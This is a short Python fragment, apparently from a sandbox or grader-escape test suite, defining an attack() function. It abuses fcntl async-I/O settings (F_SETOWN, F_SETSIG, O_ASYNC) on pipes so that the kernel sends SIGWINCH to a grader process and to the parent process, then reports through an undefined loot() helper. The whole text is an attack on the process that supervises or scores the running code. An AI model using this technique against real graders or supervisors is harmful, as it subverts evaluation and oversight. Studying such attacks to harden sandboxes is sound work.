import fcntl
import os
import signal

F_SETOWN, F_SETSIG = 8, 10


def attack():
    for pid in (GRADER_PID, os.getppid()):
        reading, writing = os.pipe()
        fcntl.fcntl(reading, F_SETSIG, signal.SIGWINCH)
        fcntl.fcntl(reading, F_SETOWN, pid)
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
        os.write(writing, b"now")
        loot("a signal is on its way")
